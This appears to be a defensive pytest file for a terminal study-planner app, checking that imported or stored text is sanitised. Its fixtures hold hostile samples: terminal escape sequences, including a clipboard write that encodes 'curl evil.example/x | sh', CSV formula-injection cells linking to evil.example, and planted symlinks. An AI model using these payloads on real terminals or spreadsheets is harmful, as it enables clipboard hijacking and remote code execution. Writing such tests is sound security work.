"""Input the planner cannot use is refused at the door, and text never reaches a terminal,
a spreadsheet or a calendar as code (issue: imported text and poisoned values)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from imgtui.cli import main
from imgtui.planner import Planner
from imgtui.records import UsceSite
from imgtui.store import Store

from .conftest import DEMO_DAY, started

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07"


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def poisoned_sheet(tmp_path: Path) -> Path:
    path = tmp_path / "shared.csv"
    path.write_text(
        "name,city,status,notes\n"
        f'"St. Evil{ESCAPES} Hospital","Tampa, FL",contacted,"=HYPERLINK(""http://evil.example"")"\n'
        '"@SUM(A1)","+1 Miami, FL",idea,"-2+3"\n',
        encoding="utf-8",
    )
    return path


def test_escape_sequences_from_an_imported_sheet_never_reach_the_terminal_or_a_spreadsheet(
    capsys, tmp_path: Path
) -> None:
    db = tmp_path / "db.json"
    code, _, err = run(capsys, "import-csv", "sites", str(poisoned_sheet(tmp_path)), "--db", str(db))
    assert code == 0, err
    for command in (["today", "--date", "2026-11-23"], ["advice"], ["export-csv", "sites", "-"]):
        code, out, err = run(capsys, *command, "--db", str(db))
        assert code == 0, err
        assert "\x1b" not in out + err and "\x07" not in out + err
    code, out, _ = run(capsys, "export-csv", "sites", "-", "--db", str(db))
    cells = {row["name"]: row for row in csv.DictReader(io.StringIO(out))}
    assert "St. Evil Hospital" in cells  # the text stays, the sequences go
    assert cells["'@SUM(A1)"]["city"] == "'+1 Miami, FL"  # neutralised: a spreadsheet shows it as text
    assert cells["St. Evil Hospital"]["notes"].startswith("'=HYPERLINK")
    assert cells["'@SUM(A1)"]["notes"] == "'-2+3"
    code, raw, _ = run(capsys, "export-csv", "sites", "-", "--allow-formulas", "--db", str(db))
    assert "\n@SUM(A1)," in raw  # asked for: as stored
    # and back: a re-import of the guarded export gives the same values
    guarded = tmp_path / "guarded.csv"
    guarded.write_text(out)
    code, _, err = run(capsys, "import-csv", "sites", str(guarded), "--db", str(db))
    assert code == 0 and sorted(s.name for s in Store(db).sites()) == ["@SUM(A1)", "St. Evil Hospital"]


async def test_escape_sequences_stored_by_another_program_are_not_drawn(tmp_path: Path) -> None:
    import orjson

    db = tmp_path / "db.json"
    store = Store(db)
    store.save(UsceSite.from_input({"name": "Plain"}))
    store.close()
    data = orjson.loads(db.read_bytes())  # another program writes the raw sequences
    data["usce_sites"]["1"]["name"] = f"Mercy{ESCAPES}"
    db.write_bytes(orjson.dumps(data))
    store = Store(db)
    from imgtui.ui.app import ImgtuiApp

    app = ImgtuiApp(Planner(store, today=DEMO_DAY), poll_seconds=0)
    async with started(app, (80, 24)) as pilot:
        await pilot.press("4")
        await pilot.pause()
        screen = app.export_screenshot()
        assert "Mercy" in screen and "owned" not in screen and "\x1b]" not in screen
    store.close()


@pytest.mark.parametrize(
    "argv",
    [
        ["profile", "set", "exam_date=9999-12-31"],
        ["profile", "set", "study_start=0001-01-01"],
        ["log-exam", "NBME 12", "230", "--date", "0026-11-01"],
        ["log-exam", "NBME 12", "1" * 309],
        ["profile", "set", "qbank_size=" + "9" * 400],
        ["log-qbank", "4" * 320, "1"],
    ],
)
def test_values_that_would_break_the_planner_are_refused_and_nothing_is_written(
    capsys, demo_path: Path, argv: list[str]
) -> None:
    before = demo_path.read_bytes()
    code, _, err = run(capsys, *argv, "--db", str(demo_path))
    assert code == 2 and len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
    assert demo_path.read_bytes() == before
    assert run(capsys, "today", "--db", str(demo_path))[0] == 0  # and planning still works


def test_a_date_with_a_missing_century_says_what_was_probably_meant(capsys, demo_path: Path) -> None:
    code, _, err = run(capsys, "log-exam", "NBME 12", "230", "--date", "0026-11-01", "--db", str(demo_path))
    assert code == 2 and "did you mean 2026?" in err


def test_an_argument_that_is_not_utf8_is_one_line_of_error(tmp_path: Path) -> None:
    db = tmp_path / "db.json"
    form = b"NBME \xff".decode("utf-8", "surrogateescape")  # as Python hands over a byte that is not UTF-8
    done = subprocess.run(
        [sys.executable, "-m", "imgtui", "log-exam", form, "230", "--db", str(db)],
        capture_output=True,
        text=True,
        errors="replace",
    )
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1 and "UTF-8" in done.stderr


def test_an_ics_text_never_carries_a_control_character_or_a_bare_cr() -> None:
    from imgtui.ics import _escape

    assert _escape("Mercy\rDTSTART:20990101\x1b[2J") == "Mercy\\nDTSTART:20990101"


def test_an_export_never_follows_a_planted_link_and_is_private(capsys, demo_path: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("my own file")
    target = tmp_path / "sites.csv"
    for planted in (target.with_name("sites.csv.tmp"), target.with_name(".sites.csv.tmp")):
        planted.symlink_to(victim)  # another user's guess at the temp file's name
    code, _, err = run(capsys, "export-csv", "sites", str(target), "--db", str(demo_path))
    assert code == 0, err
    assert victim.read_text() == "my own file" and oct(target.stat().st_mode)[-3:] == "600"
    assert not [p for p in tmp_path.iterdir() if ".tmp-" in p.name]  # no temp file left behind


def test_copies_of_a_damaged_or_upgraded_database_are_private(tmp_path: Path) -> None:
    db = tmp_path / "imgtui.json"
    db.write_text(
        '{"meta": {"1": {"schema_version": 2}}, "profile": {"1": {"step1_status": "pass", "step1_attempts": 1}}}'
    )
    db.chmod(0o644)
    Store(db).close()
    copies = list(tmp_path.glob("imgtui.json.schema-v2-*"))
    assert len(copies) == 1 and oct(copies[0].stat().st_mode)[-3:] == "600"
    assert Store(db).profile().step1_attempts == 0  # a pass on the first try: no failed attempt
    db.write_text("{ damaged")
    Store(db).close()
    aside = list(tmp_path.glob("imgtui.json.corrupt-*"))
    assert len(aside) == 1 and oct(aside[0].stat().st_mode)[-3:] == "600"


def test_a_huge_number_in_a_csv_cell_is_a_row_problem(capsys, tmp_path: Path) -> None:
    sheet = tmp_path / "sites.csv"
    sheet.write_text(f"name,weeks,cost\nMercy,{'9' * 400},{'1' * 320}\n")
    code, out, err = run(capsys, "import-csv", "sites", str(sheet), "--db", str(tmp_path / "db.json"))
    assert code == 2 and "Traceback" not in out + err and len(err.strip().splitlines()) == 1
    assert "weeks" in out and "cost" in out
